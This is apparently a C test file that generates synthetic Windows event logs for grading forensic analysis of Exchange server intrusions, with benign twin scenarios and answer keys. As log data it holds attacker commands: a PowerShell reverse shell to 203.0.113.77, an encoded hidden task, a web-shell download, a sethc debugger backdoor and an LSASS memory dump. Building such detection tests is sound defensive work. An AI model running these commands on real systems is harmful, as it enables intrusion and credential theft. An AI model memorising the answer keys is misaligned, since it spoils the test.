/* events: stories that the event logs tell, alone or beside text logs; each with a twin in which nobody came in. */
#include "lab/evlog.h"
#include "lab/story.h"

#include <string.h>

#define ALL ((1u << CH_COUNT) - 1)
#define SYS32 "C:\\Windows\\System32\\"
#define W3WP SYS32 "inetsrv\\w3wp.exe"
#define ADMIN "SubjectUserSid", "S-1-5-21-4242-1717-31337-1101", "SubjectUserName", "mara.admin"
#define POOL(name) "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"" name "\" -v \"v4.0\" -a \\\\.\\pipe\\iisipm0c"

static const char *task_xml(struct lab *l, const char *author, const char *command, const char *arguments)
{
    return pool_fmt(&l->keep, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n    <Author>%s</Author>\r\n  </RegistrationInfo>\r\n"
        "  <Triggers>\r\n    <CalendarTrigger>\r\n      <StartBoundary>2021-02-01T03:00:00</StartBoundary>\r\n    </CalendarTrigger>\r\n  </Triggers>\r\n  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>%s</Command>\r\n      <Arguments>%s</Arguments>\r\n"
        "    </Exec>\r\n  </Actions>\r\n</Task>", author, command, arguments);
}

/* A program under another, in both logs that tell of programs. */
static void child(struct lab *l, int64_t t, const char *parent, const char *pool, const char *image, const char *line)
{
    EV(l, CH_SECURITY, 4688, t, "NewProcessName", image, "CommandLine", line, "ParentProcessName", parent);
    EV(l, CH_SYSMON, 1, t, "Image", image, "CommandLine", line, "ParentImage", parent, "ParentCommandLine", pool);
}

/* ---- nobody came in ---- */

/* Each thing that an intruder leaves, as an administrator or a product leaves it. */
static void twins(struct lab *l)
{
    int64_t     t = at("2021-02-10T10:00:00");
    const char *admin = pool_fmt(&l->keep, "%s\\mara.admin", l->netbios), *operator = pool_fmt(&l->keep, "%s/Users/mara.admin", l->domain);

    EV(l, CH_SECURITY, 4720, t, ADMIN, "TargetUserName", "svc_scan", "SamAccountName", "svc_scan");
    EV(l, CH_SECURITY, 4722, t, ADMIN, "TargetUserName", "svc_scan");
    EV(l, CH_SECURITY, 4732, t + TIME_SECOND, ADMIN);
    EV(l, CH_SECURITY, 4720, l->start_us + TIME_HOUR, "TargetUserName", "localadm", "SubjectUserName", "WIN-0A1B2C3D4E5$", "SubjectDomainName", "WORKGROUP", "TargetSid", "S-1-5-21-4242-1717-31337-1000");   /* set-up, before it joined */
    EV(l, CH_SECURITY, 4720, t + TIME_DAY, "TargetUserName", "WDAGUtilityAccount", "SamAccountName", "WDAGUtilityAccount", "TargetSid", "S-1-5-21-4242-1717-31337-504");
    EV(l, CH_SECURITY, 4720, t + TIME_DAY, "TargetUserName", "SophosSAUEXCH010", "SamAccountName", "SophosSAUEXCH010");      /* an updater's own account */
    EV(l, CH_SECURITY, 4720, t + TIME_DAY, "TargetUserName", "HealthMailbox0a1b2c3", "TargetDomainName", l->netbios, "SamAccountName", "HealthMailbox0a1b2c3");
    EV(l, CH_SECURITY, 4724, t + TIME_DAY, "TargetUserName", "Administrator", "TargetSid", "S-1-5-21-4242-1717-31337-500");      /* the local password, changed by a product */
    EV(l, CH_SECURITY, 4732, t + TIME_DAY, "MemberSid", "S-1-5-21-4242-1717-31337-512");                                            /* Group Policy */
    EV(l, CH_SYSTEM, 7045, t + TIME_HOUR, "ServiceName", "PSEXESVC", "ImagePath", "%SystemRoot%\\PSEXESVC.exe");
    EV(l, CH_SYSTEM, 7045, t + 2 * TIME_HOUR, "ServiceName", "Backup Agent", "ImagePath", "\"C:\\Program Files\\Backup\\agent.exe\" -service", "StartType", "auto start");
    EV(l, CH_SYSTEM, 7045, t + 3 * TIME_HOUR, "ServiceName", "cpuz149", "ImagePath", "\\??\\C:\\Windows\\Temp\\cpuz149\\cpuz149_x64.sys", "ServiceType", "kernel mode driver");
    EV(l, CH_SECURITY, 4697, t + 2 * TIME_HOUR, ADMIN, "ServiceName", "Backup Agent", "ServiceFileName", "\"C:\\Program Files\\Backup\\agent.exe\" -service");
    EV(l, CH_SECURITY, 4698, t + 4 * TIME_HOUR, ADMIN, "TaskName", "\\Nightly clean-up", "TaskContent", task_xml(l, admin, "powershell.exe", "-NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Clear-Logs.ps1"));
    EV(l, CH_TASKS, 106, t + 4 * TIME_HOUR, "TaskName", "\\Nightly clean-up", "UserContext", admin);
    EV(l, CH_TASKS, 141, t + 9 * TIME_DAY, "TaskName", "\\Nightly clean-up", "UserName", admin);
    EV(l, CH_TASKS, 200, t + 5 * TIME_HOUR, "TaskName", "\\Nightly clean-up", "ActionName", "powershell.exe");
    EV(l, CH_SECURITY, 4648, t + 5 * TIME_HOUR, "TargetUserName", "svc_backup", "TargetServerName", "files01.bakery.example", "TargetInfo", "files01.bakery.example", "ProcessName", SYS32 "svchost.exe");
    EV(l, CH_SECURITY, 4648, t + 5 * TIME_HOUR, "TargetUserName", "svc_backup", "TargetServerName", "nas01.bakery.example", "TargetInfo", "nas01.bakery.example", "ProcessName", SYS32 "net.exe");     /* a nightly script of hers */
    EV(l, CH_SECURITY, 4698, t + 4 * TIME_HOUR, ADMIN, "TaskName", "\\Old logs", "TaskContent", task_xml(l, admin, "cmd.exe", "/c forfiles /p C:\\inetpub\\logs\\LogFiles /s /d -30 /c \"cmd /c del @path\""));
    EV(l, CH_SECURITY, 4698, t + 4 * TIME_HOUR, ADMIN, "TaskName", "\\Old proxy logs", "TaskContent", task_xml(l, admin, "powershell.exe",
       "-Command \"Get-ChildItem 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy' -Recurse -File | Where-Object LastWriteTime -lt (Get-Date).AddDays(-14) | Remove-Item\""));
    EV(l, CH_SECURITY, 4648, t + 5 * TIME_HOUR, ADMIN, "TargetUserName", "mara.admin", "TargetServerName", "dc01", "TargetInfo", "dc01", "ProcessName", SYS32 "mmc.exe");
    EV(l, CH_SECURITY, 4648, t + 6 * TIME_HOUR, "TargetUserName", "svc_mon", "TargetServerName", l->server, "TargetInfo", l->server, "ProcessName", SYS32 "cmd.exe");
    EV(l, CH_SECURITY, 4624, t + 6 * TIME_HOUR, ADMIN, "TargetUserName", "mara.admin", "LogonType", "9", "LogonProcessName", "seclogo", "TargetOutboundUserName", "adm.domain");
    /* The help desk's own application prints labels; a pool of its own says whose child that is. */
    EV(l, CH_SYSMON, 1, t + 7 * TIME_HOUR, "Image", SYS32 "cmd.exe", "CommandLine", "\"cmd.exe\" /c C:\\Helpdesk\\labels.bat 4711", "ParentImage", W3WP, "ParentCommandLine", POOL("HelpdeskPool"), "User", "IIS APPPOOL\\HelpdeskPool");
    EV(l, CH_SYSMON, 11, t + 7 * TIME_HOUR, "Image", W3WP, "TargetFilename", "C:\\inetpub\\wwwroot\\helpdesk\\upload\\photo.jpg");
    child(l, t + 8 * TIME_HOUR, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", SYS32 "cmd.exe", "cmd /c \"procdump64.exe -accepteula -ma w3wp.exe C:\\dumps\"");
    child(l, t + 8 * TIME_HOUR, SYS32 "cmd.exe", "cmd.exe", SYS32 "inetsrv\\appcmd.exe", "appcmd list apppool /text:name");
    child(l, t + 8 * TIME_HOUR, SYS32 "cmd.exe", "cmd.exe", SYS32 "reg.exe", "reg export HKLM\\SOFTWARE\\Helpdesk C:\\backup\\helpdesk.reg");
    child(l, t + 8 * TIME_HOUR, SYS32 "cmd.exe", "cmd.exe", SYS32 "vssadmin.exe", "vssadmin list shadows");
    EV(l, CH_POWERSHELL, 4104, t, "ScriptBlockText", "iex ((New-Object System.Net.WebClient).DownloadString('https://chocolatey.org/install.ps1'))");
    EV(l, CH_POWERSHELL, 4104, t, "ScriptBlockText", "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox | Get-MailboxStatistics", "Path", "C:\\Scripts\\Report.ps1");
    EV(l, CH_DEFENDER, 5007, t, "New Value", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Program Files\\Microsoft\\Exchange Server\\V15 = 0x0");
    EV(l, CH_DEFENDER, 1116, t, "Threat Name", "PUA:Win32/Presenoker", "Path", "file:_C:\\Users\\mara.admin\\Downloads\\toolbar-setup.exe");
    EV_PLAIN(l, CH_DEFENDER, 5001, t + 11 * TIME_HOUR);
    EV(l, CH_MANAGEMENT, 1, t, "Cmdlet", "Install-TransportAgent", "Parameters", "-Name \"Signature Agent\" -TransportAgentFactory \"Acme.Mail.AgentFactory\" -AssemblyPath \"C:\\Program Files\\Acme Mail\\Acme.Mail.Agent.dll\"", "Caller", operator);
    EV(l, CH_MANAGEMENT, 1, t, "Cmdlet", "New-ManagementRoleAssignment", "Parameters", "-Name \"Backup\" -Role \"ApplicationImpersonation\" -User \"svc_backup\"", "Caller", operator);
    EV(l, CH_MANAGEMENT, 1, t, "Cmdlet", "Set-OwaVirtualDirectory", "Parameters", pool_fmt(&l->keep, "-ExternalUrl \"https://%s/owa\" -Identity \"%s\\owa (Default Web Site)\"", l->host, l->server), "Caller", operator);
    EV(l, CH_WMI, 5861, t, "ESS", "BVTFilter", "CONSUMER", "CommandLineEventConsumer=\"BVTConsumer\"", "PossibleCause", "Perm. Consumer: instance of CommandLineEventConsumer { Name = \"BVTConsumer\"; CommandLineTemplate = \"cscript KernCap.vbs\"; };");
    EV(l, CH_BITS, 16403, t, "jobTitle", "Updates", "RemoteName", "http://10.20.0.40/filestreamingservice/files/0a1b2c?cacheHostOrigin=download.example", "LocalName", "C:\\Windows\\SoftwareDistribution\\Download\\BIT2.tmp");
    EV(l, CH_APPLICATION, 327, t, "Process", "ntdsutil", "Path", "C:\\Windows\\NTDS\\ntds.dit");
    EV(l, CH_SECURITY, 5145, t, "IpAddress", "127.0.0.1", "ShareName", "\\\\*\\C$", "ShareLocalPath", "\\??\\C:\\", "RelativeTargetName", "backup\\oab-settings.txt");                    /* the settings, reset to a file as the manual says */
    EV(l, CH_SECURITY, 5145, t, ADMIN, "IpAddress", "10.20.0.14", "ShareName", "\\\\*\\C$", "ShareLocalPath", "\\??\\C:\\", "RelativeTargetName", "inetpub\\wwwroot\\help\\default.aspx");   /* she copies the intranet's pages */
    EV(l, CH_WINRM, 91, t, "resourceUri", "http://schemas.microsoft.com/wbem/wsman/1/windows/shell/cmd");
    EV(l, CH_SYSMON, 13, t, "Image", SYS32 "msiexec.exe", "TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Backup tray", "Details", "\"C:\\Program Files\\Backup\\tray.exe\"");
    EV(l, CH_SYSMON, 10, t, "SourceImage", SYS32 "WerFault.exe", "TargetImage", SYS32 "lsass.exe", "GrantedAccess", "0x1fffff", "CallTrace", SYS32 "ntdll.dll+9f8a4|" SYS32 "dbgcore.dll+64a2");
    truth_list(l, "must_not", "mara.admin");
}

void tell_events_quiet(struct lab *l)
{
    ev_ordinary(l, ALL);
    twins(l);
    all_covered(l);
}

/* An administrator cleared the log and audit went off with a policy: that is a gap to name, and no trace of anybody. */
void tell_events_cleared(struct lab *l)
{
    ev_ordinary(l, ALL);
    ev_clear(l, CH_SECURITY, at("2021-03-02T05:12:00"), "mara.admin");
    ev_clear(l, CH_POWERSHELL, at("2021-03-02T05:12:30"), "mara.admin");
    EV(l, CH_SECURITY, 4719, at("2021-03-02T05:14:00"), ADMIN, "AuditPolicyChanges", "%%8448");
    all_covered(l);
    truth_list(l, "must_not", "mara.admin");
}

/* ---- somebody did ---- */

static void planted(struct lab *l, int64_t t)
{
    EV(l, CH_SECURITY, 4720, t, "TargetUserName", "exchadm", "SamAccountName", "exchadm");
    EV_PLAIN(l, CH_SECURITY, 4732, t + TIME_SECOND);
    EV(l, CH_SYSTEM, 7045, t + TIME_MINUTE, "ServiceName", "KdcSvc", "ImagePath", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat");
    EV(l, CH_SYSTEM, 7045, t + 2 * TIME_MINUTE, "ServiceName", "Helper", "ImagePath", "C:\\Users\\Public\\Libraries\\hlp.exe");
    EV(l, CH_SECURITY, 4697, t + 2 * TIME_MINUTE, "ServiceName", "Helper", "ServiceFileName", "C:\\Users\\Public\\Libraries\\hlp.exe");
    EV(l, CH_SECURITY, 4698, t + 3 * TIME_MINUTE, "TaskName", "\\Microsoft\\Windows\\Wininet\\CacheTask2", "TaskContent", task_xml(l, "SYSTEM", "powershell", "-w hidden -e cwB0AGEAbgBkAC0AaQBuAA=="));
    EV(l, CH_TASKS, 106, t + 3 * TIME_MINUTE, "TaskName", "\\Microsoft\\Windows\\Wininet\\CacheTask2", "UserContext", "S-1-5-18");
    EV(l, CH_WMI, 5861, t + 4 * TIME_MINUTE, "ESS", "Updater", "CONSUMER", "CommandLineEventConsumer=\"Updater\"", "PossibleCause", "Binding EventFilter: instance of __EventFilter { Name = \"Updater\"; }; Perm. Consumer: instance of CommandLineEventConsumer { Name = \"Updater\"; "
       "CommandLineTemplate = \"C:\\\\PerfLogs\\\\u.exe\"; };");
    EV(l, CH_SESSIONS, 25, t + 5 * TIME_MINUTE, "User", pool_fmt(&l->keep, "%s\\exchadm", l->server), "Address", "::%16777216");
    EV(l, CH_MANAGEMENT, 1, t + 6 * TIME_MINUTE, "Cmdlet", "Install-TransportAgent", "Parameters", "-Name \"Mail Flow Agent\" -TransportAgentFactory \"M.F\" -AssemblyPath \"C:\\Windows\\Temp\\mf.dll\"", "Caller", "NT AUTHORITY\\SYSTEM");
}

/* Nothing but event logs were collected, beside the configuration: what was planted is told, how anybody came in is not. */
void set_events_only(struct lab *l)
{
    server_defaults(l, GEN_2016);
    l->logs_from_us = l->end_us;
}

void tell_events_planted(struct lab *l)
{
    static const char *const name[] = { "exchadm", "KdcSvc", "Helper", "\\Microsoft\\Windows\\Wininet\\CacheTask2", "Updater", "remote desktop from ::%16777216", "Mail Flow Agent" };

    ev_ordinary(l, ALL);
    planted(l, at("2021-03-02T23:10:00"));
    verdict(l, "back_door_used");                            /* the planted account came back to a desktop */
    truth_text(l, "use.state", "used");
    truth_list(l, "ways_used", "exchadm");
    truth_text(l, "back_door.state", "unknown");
    for (size_t i = 0; i < sizeof name / sizeof *name; i++)
        truth_list(l, "ways_back", name[i]);
    truth_list(l, "must_not", "mara.admin");
}

/* More of what one record proves alone: pages by other ways, keys, tools, a door at the sign-in screen. */
void tell_events_more(struct lab *l)
{
    static const char *const page[] = { "aspnet_client/sieve.aspx", "aspnet_client/colander.aspx", "aspnet_client/strainer.aspx" };
    static const char *const way[] = { "memory of LSASS", "machine key of a web application", "sethc.exe", "S-1-5-21-4242-1717-31337-501" };
    int64_t     t = at("2021-03-02T22:00:00");
    const char *root = l->webroot_win, *system = pool_fmt(&l->keep, "%s/NT AUTHORITY/SYSTEM", l->domain);

    ev_ordinary(l, ALL);
    EV(l, CH_MANAGEMENT, 1, t, "Cmdlet", "New-MailboxExportRequest", "Parameters", "-Mailbox \"info\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\sieve.aspx\"", "Caller", system);
    EV(l, CH_DEFENDER, 1117, t + TIME_MINUTE, "Threat Name", "Backdoor:ASP/Chopper.F!dha", "Path", pool_fmt(&l->keep, "file:_%s\\aspnet_client\\colander.aspx", root), "Action ID", "2", "Action Name", "Quarantine");
    EV(l, CH_BITS, 16403, t + 2 * TIME_MINUTE, "jobTitle", "a", "RemoteName", "http://203.0.113.77/s.txt", "LocalName", pool_fmt(&l->keep, "%s\\aspnet_client\\strainer.aspx", root));
    EV(l, CH_APPLICATION, 1316, t + 3 * TIME_MINUTE, "Code", "4009", "Message", "Viewstate verification failed. Reason: Viewstate was invalid.", "Detail", "50204", "Url", pool_fmt(&l->keep, "https://%s/ecp/default.aspx", l->host), "Path", "/ecp/default.aspx", "Client", "203.0.113.77",
       "Reason", "Viewstate verification failed. Reason: Viewstate was invalid.", "ClientIp", "203.0.113.77", "Port", "40112", "PersistedState", "dDwxMjM0Oz4=", "ViewStatePath", "/ecp/default.aspx");
    EV(l, CH_POWERSHELL, 4104, t + 4 * TIME_MINUTE, "ScriptBlockText", "$c = New-Object Net.Sockets.TCPClient('203.0.113.77', 443); $s = $c.GetStream(); <# read #> iex $d", "Path", "C:\\Windows\\Temp\\c.ps1");
    EV(l, CH_SYSMON, 13, t + 5 * TIME_MINUTE, "Image", SYS32 "reg.exe", "TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "Details", SYS32 "cmd.exe");
    EV(l, CH_SECURITY, 4732, t + 6 * TIME_MINUTE, "MemberSid", "S-1-5-21-4242-1717-31337-501");
    EV(l, CH_SYSMON, 10, t + 7 * TIME_MINUTE, "SourceImage", "C:\\Windows\\Temp\\p.exe", "TargetImage", SYS32 "lsass.exe", "GrantedAccess", "0x1fffff", "CallTrace", SYS32 "ntdll.dll+9f8a4|" SYS32 "dbgcore.dll+64a2");
    entered(l, 0);                          /* a page that was there is an entry; whose, nothing tells */
    verdict(l, "back_door");
    truth_text(l, "back_door.state", "unknown");
    for (size_t i = 0; i < sizeof way / sizeof *way; i++)
        truth_list(l, "ways_back", way[i]);
    for (size_t i = 0; i < sizeof page / sizeof *page; i++)
        truth_door(l, win_path(l, web(l, page[i])), "removed", "no_evidence_available");
    truth_list(l, "must_not", "mara.admin");
}

/* A page placed, used and deleted; what it did on the server stands in the event logs. */
static const char *story(struct lab *l, const char *page, const char *url)
{
    int64_t     t = at("2021-03-03T02:10:30");
    const char *path = win_path(l, page), *target = pool_fmt(&l->keep, "%s\\OAB (Default Web Site)", l->server), *system = pool_fmt(&l->keep, "%s/NT AUTHORITY/SYSTEM", l->domain);

    intrude(l, &someone, "2021-03-03T02:10:30");
    EV(l, CH_MANAGEMENT, 1, t + 60 * TIME_SECOND, "Cmdlet", "Set-OabVirtualDirectory", "Parameters", pool_fmt(&l->keep, "-ExternalUrl \"http://f/%s\" -Identity \"%s\"", raid_script(l, someone.key), target), "Caller", system, "Host", "ECP", "Process", "7324 w3wp#MSExchangeECPAppPool");
    EV(l, CH_MANAGEMENT, 1, t + 65 * TIME_SECOND, "Cmdlet", "Remove-OabVirtualDirectory", "Parameters", pool_fmt(&l->keep, "-Force \"True\" -Identity \"%s\"", target), "Caller", system, "Host", "ECP");
    raid_page(l, page, someone.key, t + 70 * TIME_SECOND);
    EV(l, CH_SECURITY, 5145, t + 70 * TIME_SECOND, "IpAddress", "127.0.0.1", "ShareName", "\\\\*\\C$", "ShareLocalPath", "\\??\\C:\\", "RelativeTargetName", path + 3);
    EV(l, CH_SYSMON, 11, t + 70 * TIME_SECOND, "Image", "System", "TargetFilename", path);
    for (int i = 0; i < 3; i++) {
        static const char *const line[] = { "whoami", "net group \"Exchange Organization administrators\" administrator /del /domain", "tasklist" };
        int64_t at_us = t + (4 + i) * TIME_MINUTE;
        raid_visit(l, someone.client, UA_SHELL, at_us, "POST", url, NULL, 200);
        child(l, at_us - 90 * 1000, W3WP, POOL("MSExchangeOWAAppPool"), SYS32 "cmd.exe", pool_fmt(&l->keep, "\"cmd\" /c cd /d \"C:/inetpub/wwwroot/aspnet_client\"&%s&echo [S]&cd&echo [E]", line[i]));
        if (!i)
            child(l, at_us - 60 * 1000, SYS32 "cmd.exe", "\"cmd\" /c", SYS32 "whoami.exe", "whoami");
    }
    return path;
}

void tell_events_story(struct lab *l)
{
    const char *page = web(l, "aspnet_client/ladle.aspx"), *path = story(l, page, "/aspnet_client/ladle.aspx");

    ev_ordinary(l, ALL);
    EV(l, CH_SYSMON, 23, at("2021-03-03T02:40:00"), "Image", SYS32 "cmd.exe", "TargetFilename", path);
    raid_visit(l, someone.client, UA_LOOK, at("2021-03-03T02:41:00"), "GET", "/aspnet_client/ladle.aspx", NULL, 404);
    file_remove(l, page);
    all_covered(l);
    entered(l, 1);
    door(l, "removed", true, false);
    truth_door_use(l, truth_door(l, path, "removed", "used"), NULL, 3, &someone.client, 1);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "must_not", "mara.admin");
}

/* The same, and from there to another server with a password that was found. */
void tell_events_beyond(struct lab *l)
{
    const char *path = story(l, web(l, "aspnet_client/tongs.aspx"), "/aspnet_client/tongs.aspx");
    int64_t     t = at("2021-03-03T02:40:00");

    ev_ordinary(l, ALL);
    child(l, t, W3WP, POOL("MSExchangeOWAAppPool"), SYS32 "rundll32.exe", "rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 680 C:\\Windows\\Temp\\s.dmp full");
    EV(l, CH_SECURITY, 4648, t + TIME_MINUTE, "TargetUserName", "administrator", "TargetServerName", "dc01.bakery.example", "TargetInfo", "dc01.bakery.example", "ProcessName", SYS32 "net.exe");
    all_covered(l);
    entered(l, 1);
    door(l, "present", true, false);
    verdict(l, "beyond_server");
    truth_text(l, "use.state", "beyond_server");
    truth_list(l, "ways_back", "memory of LSASS");
    truth_door_use(l, truth_door(l, path, "present", "used"), someone.key, 3, &someone.client, 1);
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "must_not", "mara.admin");
}

static void sign_in(struct lab *l, int64_t t, unsigned id, const char *account, const char *client, const char *type)
{
    EV(l, CH_SECURITY, id, t, "SubjectUserSid", "S-1-0-0", "SubjectUserName", "-", "SubjectDomainName", "-", "TargetUserName", account, "TargetDomainName", l->netbios, "LogonType", type,
       "LogonProcessName", "NtLmSsp ", "AuthenticationPackageName", "NTLM", "WorkstationName", "WORKSTATION", "ProcessName", "-", "IpAddress", client, "IpPort", "50412");
}

/* The page is gone; an account that it made is what remains. */
static void pivot_story(struct lab *l, const struct raid *r, const char *name, const char *url)
{
    int64_t     t = at("2021-03-03T02:10:30");
    const char *page = web(l, name), *path = win_path(l, page);

    intrude(l, r, "2021-03-03T02:10:30");
    raid_page(l, page, r->key, t + 70 * TIME_SECOND);
    raid_visit(l, r->client, UA_SHELL, t + 4 * TIME_MINUTE, "POST", url, NULL, 200);
    ev_ordinary(l, ALL);
    all_covered(l);
    entered(l, 1);
    door(l, "present", true, false);
    truth_door_use(l, truth_door(l, path, "present", "used"), r->key, 1, &r->client, 1);
}

void tell_events_pivot(struct lab *l)
{
    int64_t t = at("2021-03-03T02:15:00");

    pivot_story(l, &someone, "aspnet_client/skimmer.aspx", "/aspnet_client/skimmer.aspx");
    EV(l, CH_SECURITY, 4720, t, "TargetUserName", "exchadm", "SamAccountName", "exchadm");
    for (int i = 0; i < 3; i++)
        sign_in(l, t + (10 + i) * TIME_MINUTE, 4625, "administrator", someone.client, "3");
    sign_in(l, t + 20 * TIME_MINUTE, 4624, "exchadm", someone.client, "10");
    EV(l, CH_SESSIONS, 21, t + 20 * TIME_MINUTE, "User", pool_fmt(&l->keep, "%s\\exchadm", l->server), "Address", someone.client);
    sign_in(l, t + 9 * TIME_DAY, 4624, "EXCHADM", "203.0.113.88", "3");
    sign_in(l, t + 9 * TIME_DAY, 4624, "exchadmin.helpdesk", "10.20.0.14", "3");           /* another name that begins alike */
    sign_in(l, t + 9 * TIME_DAY, 4624, "mara.admin", "198.51.100.230", "3");               /* another address that begins alike */
    truth_list(l, "ways_back", "exchadm");
    truth_list(l, "ways_used", "exchadm");
    truth_list(l, "intruder_clients", someone.client);
    truth_list(l, "findings", "events/pivot: exchadm");
    truth_list(l, "findings", "events/pivot: administrator");
    truth_list(l, "findings", "events/planted-account: from 203.0.113.88");
    truth_list(l, "findings", "events/planted-account: from 198.51.100.23");
    truth_list(l, "no_findings", "events/pivot: mara.admin");
    truth_list(l, "no_findings", "events/pivot: 198.51.100.230");
    truth_list(l, "no_findings", "events/planted-account: helpdesk");
    truth_list(l, "must_not", "mara.admin");
}

void tell_events_pivot_shared(struct lab *l)
{
    static const char *const name[] = { "anna.berg", "jonas.lind", "petra.holm", "lars.dahl", "eva.strand", "mara.admin" };
    int64_t t = at("2021-02-10T08:00:00");

    pivot_story(l, &someone, "aspnet_client/funnel.aspx", "/aspnet_client/funnel.aspx");
    for (int day = 0; day < 20; day++)
        for (size_t i = 0; i < sizeof name / sizeof *name; i++)
            sign_in(l, t + day * TIME_DAY + (int64_t)i * TIME_MINUTE, 4624, name[i], someone.client, "3");
    EV(l, CH_SECURITY, 4720, t, ADMIN, "TargetUserName", "svc_scan", "SamAccountName", "svc_scan");
    sign_in(l, t + TIME_DAY, 4624, "svc_scan", "10.20.0.15", "3");
    truth_list(l, "no_findings", "events/pivot");
    truth_list(l, "no_findings", "events/planted-account");
    for (size_t i = 0; i < sizeof name / sizeof *name; i++)
        truth_list(l, "must_not", name[i]);
}

/* Unified Messaging took an object that was not its own; no text log tells of that. */
void tell_events_messaging(struct lab *l)
{
    int64_t     t = at("2021-03-01T04:00:00");
    const char *worker = pool_fmt(&l->keep, "%s\\Bin\\UMWorkerProcess.exe", l->install_win);

    ev_ordinary(l, ALL);
    EV(l, CH_APPLICATION, 1082, t, "Text", "System.InvalidCastException: Unable to cast object of type 'Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties' to type 'Microsoft.Exchange.UM.UMCore.PipelineContext'.");
    child(l, t + TIME_SECOND, worker, worker, SYS32 "cmd.exe", "cmd.exe /c ipconfig");
    all_covered(l);
    entered(l, 1);
    truth_list(l, "cves", "CVE-2021-26857");
    truth_list(l, "must_not", "mara.admin");
}
